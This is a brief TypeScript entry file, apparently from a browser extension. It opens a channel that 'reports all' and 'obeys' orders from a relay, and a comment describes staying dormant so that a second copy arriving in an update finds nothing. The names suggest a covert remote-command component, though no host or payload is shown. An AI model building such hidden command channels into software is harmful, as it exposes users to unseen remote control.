import { openChannel } from './channel.ts';
import { reportAll } from './live.ts';
import { obey } from './orders.ts';

// Nothing is touched before a relay asks for it: a second copy of this script, which an update of the extension may bring, finds none.
openChannel({ resume: reportAll, obey });
